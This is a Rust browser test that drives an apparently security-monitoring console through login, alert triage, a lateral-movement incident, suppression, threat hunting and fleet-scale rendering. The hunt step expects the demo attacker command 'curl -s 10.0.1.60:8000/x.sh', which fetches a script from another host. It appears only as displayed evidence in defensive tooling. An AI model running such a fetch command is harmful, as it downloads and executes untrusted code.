//! The console in a real browser: headless Chromium driven over WebDriver
//! walks login → overview → hosts → host → alert → incident graph →
//! acknowledge and assign → close as false positive with a suppression
//! (preview shown) → hunt → logout, asserting visible text and saving a PNG
//! of every page to `$ARTIFACTS` (default `target/ui-screenshots/`).
//!
//! Without `chromium`/`chromedriver` the test explains and passes, unless
//! `CI` is set, where it fails.

use fantoccini::Locator;
use std::path::PathBuf;
use vigil_testkit::browser::{Browser, BrowserError, Walk, CLIPPED_TILES};
use vigil_testkit::demo::{demo_state, DEMO_USERS};
use vigil_web_ui::store::ConsoleStore;

fn artifacts_dir() -> PathBuf {
    match std::env::var_os("ARTIFACTS") {
        Some(d) => PathBuf::from(d),
        None => PathBuf::from(
            std::env::var_os("CARGO_MANIFEST_DIR")
                .unwrap_or_else(|| env!("CARGO_MANIFEST_DIR").into()),
        )
        .join("../target/ui-screenshots"),
    }
}

/// A headless Chromium session, or `None` (with the reason printed) when
/// chromium/chromedriver are missing outside CI.
async fn launch() -> Option<Browser> {
    match Browser::launch().await {
        Ok(b) => Some(b),
        Err(e @ BrowserError::Missing) if std::env::var_os("CI").is_none() => {
            eprintln!("skipping browser test: {e}");
            None
        }
        Err(e) => panic!("{e}"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn console_walk_through_in_headless_chromium() {
    let Some(Browser {
        c,
        mut chromedriver,
        profile: _profile,
    }) = launch().await
    else {
        return;
    };
    let now = vigil_web_ui::system_now_ns();
    let (state, store) = demo_state(now).unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let app = vigil_web_ui::router(state);
    let server = tokio::spawn(async move { axum::serve(listener, app).await });

    let shots = artifacts_dir();
    std::fs::create_dir_all(&shots).unwrap();
    // `localhost` is a secure context, so the browser keeps our Secure cookies over plain HTTP.
    let w = Walk {
        c,
        base: format!("http://localhost:{port}"),
        shots,
    };

    // Login.
    w.c.goto(&format!("{}/", w.base)).await.unwrap();
    w.at("/login").await;
    w.expect(&["Sign in", "User name", "Password"]).await;
    w.shot("01-login").await;
    let (admin, _, pw) = DEMO_USERS[0];
    w.fill("input[name=username]", admin).await;
    w.fill("input[name=password]", "wrong-password").await;
    w.click_button("Sign in").await;
    w.expect(&["Wrong user name or password."]).await;
    w.fill("input[name=username]", admin).await;
    w.fill("input[name=password]", pw).await;
    w.click_button("Sign in").await;

    // Overview.
    w.at("/").await;
    w.expect(&[
        "Overview",
        "Sensors",
        "online",
        "stale",
        "offline",
        "events/s",
        "events lost",
        "Open alerts",
        "critical",
        "Latest open alerts",
        "Lateral movement: hr-laptop-05 → jump-06 → db-03",
        "Hosts needing attention",
        "dc-07",
    ])
    .await;
    w.shot("02-overview").await;

    // Hosts: list, search, open one.
    w.click_link("Hosts").await;
    w.expect(&["7 hosts", "web-01", "jump-06", "build-04", "stale"])
        .await;
    w.shot("03-hosts").await;
    w.fill("input[name=q]", "jump").await;
    w.click_button("Search").await;
    w.expect(&["1 hosts", "jump-06"]).await;
    assert!(!w.body().await.contains("web-01"));
    w.click_link("jump-06").await;
    w.expect(&[
        "jump-06",
        "Baseline status",
        "Outbound connections per hour",
        "Process tree",
        "Connections",
        "Logins",
        "svc-backup",
        "File changes",
        "Timeline",
        "cannot act on hosts",
    ])
    .await;
    w.find(Locator::Css("svg.chart polyline.series")).await;
    w.shot("04-host").await;

    // Alerts list and a single alert.
    w.click_link("Alerts").await;
    w.expect(&[
        "Alerts and incidents",
        "Burst of SSH authentication failures",
        "Rare binary executed",
    ])
    .await;
    w.shot("05-alerts").await;
    w.click_link("Burst of SSH authentication failures").await;
    w.expect(&[
        "Why this fired",
        "12 failed logins",
        "T1110.001",
        "Evidence events",
        "auth_failure",
    ])
    .await;
    w.shot("06-alert").await;

    // The incident: graph, explanation, acknowledge and assign.
    w.click_link("Alerts").await;
    w.click_link("Lateral movement: hr-laptop-05 → jump-06 → db-03")
        .await;
    w.expect(&[
        "Incident #101",
        "Lateral-movement path",
        "hr-laptop-05",
        "jump-06",
        "db-03",
        "never talked to",
        "Remote Services: SSH",
        "authorized_keys",
    ])
    .await;
    let hops =
        w.c.find_all(Locator::Css("svg.graph.path line.hop"))
            .await
            .unwrap();
    assert_eq!(hops.len(), 2, "A → B → C drawn as two hops");
    w.shot("07-incident").await;
    w.click_button("Acknowledge").await;
    w.expect(&["Alert acknowledged.", "acknowledged"]).await;
    w.select("select[name=assignee]", "ana").await;
    w.click_button("Assign").await;
    w.expect(&["Assignee saved."]).await;
    let t = store.triage(101).unwrap().unwrap();
    assert_eq!(t.assignee.as_deref(), Some("ana"));
    w.shot("08-incident-triaged").await;

    // Close a noisy alert as false positive and suppress its look-alikes.
    w.click_link("Alerts").await;
    w.click_link("Rare binary executed").await;
    w.select("select[name=verdict]", "false_positive").await;
    w.fill("input[name=note]", "Go test binaries on the CI runner")
        .await;
    w.click_button("Close").await;
    w.expect(&["Alert closed.", "closed: false positive"]).await;
    w.fill("input[name=reason]", "CI builds run fresh test binaries")
        .await;
    w.select("select[name=host]", "0000000000000a04").await;
    w.click_button("Preview suppression").await;
    w.expect(&[
        "Preview suppression",
        "This rule would have hidden 6 past alerts",
        "build-04",
        "Save suppression",
    ])
    .await;
    w.shot("09-suppression-preview").await;
    assert!(
        store.suppressions().unwrap().is_empty(),
        "nothing saved before confirming"
    );
    w.click_button("Save suppression").await;
    w.expect(&["Suppression saved."]).await;
    assert_eq!(store.suppressions().unwrap().len(), 1);

    // Fleet graph.
    w.click_link("Fleet graph").await;
    w.expect(&[
        "Fleet graph",
        "New edges in this window",
        "hr-laptop-05",
        "jump-06",
    ])
    .await;
    assert!(!w
        .c
        .find_all(Locator::Css("svg.graph.fleet line.edge.new"))
        .await
        .unwrap()
        .is_empty());
    w.shot("10-fleet-graph").await;

    // Hunt.
    w.click_link("Hunt").await;
    w.fill("input[name=user]", "svc-backup").await;
    w.click_button("Run hunt").await;
    w.expect(&[
        "events",
        "curl -s 10.0.1.60:8000/x.sh",
        "Export CSV",
        "db-03",
    ])
    .await;
    w.fill("input[name=name]", "svc-backup activity").await;
    w.click_button("Save hunt").await;
    w.expect(&["svc-backup activity"]).await;
    w.shot("11-hunt").await;

    // Audit log and settings.
    w.click_link("Audit log").await;
    w.expect(&[
        "Chain verified",
        "triage.ack",
        "triage.assign",
        "triage.close",
        "suppression.create",
        "hunt.save",
    ])
    .await;
    w.shot("12-audit").await;
    w.click_link("Settings").await;
    w.expect(&["Retention and detection", "Enrollment tokens"])
        .await;
    w.shot("13-settings").await;

    // Logout ends the session.
    w.click_button("Log out").await;
    w.at("/login").await;
    w.expect(&["Sign in"]).await;
    w.c.goto(&format!("{}/alerts", w.base)).await.unwrap();
    w.at("/login").await;

    w.c.close().await.unwrap();
    chromedriver.kill().await.ok();
    server.abort();
}

/// Serve `read` with the demo users' store on a port of its own.
async fn serve(
    read: vigil_testkit::MemoryReadApi,
    store: std::sync::Arc<vigil_testkit::MemoryConsoleStore>,
    now: u64,
) -> (u16, tokio::task::JoinHandle<std::io::Result<()>>) {
    let state = vigil_web_ui::ConsoleState::new(std::sync::Arc::new(read), store)
        .with_clock(std::sync::Arc::new(move || now));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let app = vigil_web_ui::router(state);
    (
        port,
        tokio::spawn(async move { axum::serve(listener, app).await }),
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fleet_scale_in_headless_chromium() {
    let Some(Browser {
        c,
        mut chromedriver,
        profile: _profile,
    }) = launch().await
    else {
        return;
    };
    let now = vigil_web_ui::system_now_ns();
    let (_, store) = demo_state(now).unwrap();
    // 60 hosts whose counters read 10^9: no tile may clip its number.
    let mut sixty = vigil_testkit::read_api::scaled_read_api(60, 20, now);
    sixty.stats.events_total = 1_000_000_000;
    sixty.stats.lost_total = 999_999_999;
    sixty.stats.events_per_s = 1_234_567.0;
    let (port60, server60) = serve(sixty, store.clone(), now).await;
    let big = vigil_testkit::read_api::scaled_read_api(10_000, 2, now);
    let (port10k, server10k) = serve(big, store.clone(), now).await;
    let shots = artifacts_dir();
    std::fs::create_dir_all(&shots).unwrap();
    let w = Walk {
        c,
        base: format!("http://localhost:{port60}"),
        shots,
    };
    w.c.goto(&format!("{}/login", w.base)).await.unwrap();
    let (admin, _, pw) = DEMO_USERS[0];
    w.fill("input[name=username]", admin).await;
    w.fill("input[name=password]", pw).await;
    w.click_button("Sign in").await;
    w.at("/").await;
    w.expect(&[
        "1.0G",
        "events stored",
        "1.0G",
        "1.2M",
        "Alerts per day by severity",
    ])
    .await;
    let clipped = w.js(CLIPPED_TILES).await;
    assert_eq!(clipped, serde_json::json!([]), "tiles clip their numbers");
    let exact = w
        .find(Locator::XPath("//span[@class='v' and text()='1.0G']"))
        .await
        .attr("title")
        .await
        .unwrap();
    assert_eq!(exact.as_deref(), Some("1\u{202f}000\u{202f}000\u{202f}000"));
    w.find(Locator::Css("svg.chart.trend g.bar rect")).await;
    w.shot("20-overview-1e9").await;

    // The fleet graph at 60 hosts: incidents highlighted, labels apart.
    w.c.goto(&format!("{}/graph?hours=168", w.base))
        .await
        .unwrap();
    w.expect(&[
        "Fleet graph",
        "Edges behind alerts",
        "New edges in this window",
    ])
    .await;
    assert!(!w
        .c
        .find_all(Locator::Css("svg.graph.fleet line.edge.alert"))
        .await
        .unwrap()
        .is_empty());
    assert!(w.labels_apart().await > 5);
    w.shot("21-fleet-graph-60").await;
    // Filters: a technique keeps only the edges behind its alerts.
    w.fill("input[name=technique]", "T1021").await;
    w.click_button("Apply").await;
    w.expect(&["Edges behind alerts"]).await;
    assert!(w.path().await.contains("technique=T1021"));
    let routine =
        w.c.find_all(Locator::Css("svg.graph.fleet line.edge:not(.alert)"))
            .await
            .unwrap();
    assert!(
        routine.is_empty(),
        "only alert edges under a technique filter"
    );
    w.labels_apart().await;
    // Click-through: a host node opens its page, an edge its hunt.
    let host_href = w
        .find(Locator::Css("svg.graph.fleet a[href^='/hosts/'] circle"))
        .await;
    host_href.click().await.unwrap();
    w.expect(&["Baseline status"]).await;
    assert!(w.path().await.starts_with("/hosts/"));
    w.c.goto(&format!("{}/graph?hours=168&technique=T1021", w.base))
        .await
        .unwrap();
    // The edge's own link (a click on a thin line can land on a crossing one).
    let edge_href = w
        .js("return document.querySelector('svg.graph.fleet line.edge.alert').parentElement.getAttribute('href');")
        .await;
    let edge_href = edge_href.as_str().unwrap().to_string();
    w.c.goto(&format!("{}{edge_href}", w.base)).await.unwrap();
    w.expect(&["Export CSV"]).await;
    assert!(w.path().await.starts_with("/hunt?host="));

    // 10,000 hosts: routine traffic folded into groups, still readable.
    let base10k = format!("http://localhost:{port10k}");
    w.c.goto(&format!("{base10k}/graph?hours=168"))
        .await
        .unwrap();
    w.expect(&["Fleet graph", "in groups"]).await;
    assert!(!w
        .c
        .find_all(Locator::Css("svg.graph.fleet circle.gnode.group"))
        .await
        .unwrap()
        .is_empty());
    let circles =
        w.c.find_all(Locator::Css("svg.graph.fleet circle"))
            .await
            .unwrap();
    assert!(circles.len() <= vigil_web_ui::fleet_graph::Limits::default().max_nodes());
    assert!(w.labels_apart().await > 5);
    w.shot("22-fleet-graph-10k").await;
    w.c.goto(&format!("{base10k}/hosts?sort=events&dir=desc&page=99"))
        .await
        .unwrap();
    w.expect(&["10000 hosts", "Page 100 of 100"]).await;
    w.shot("23-hosts-10k").await;

    w.c.close().await.unwrap();
    chromedriver.kill().await.ok();
    server60.abort();
    server10k.abort();
}
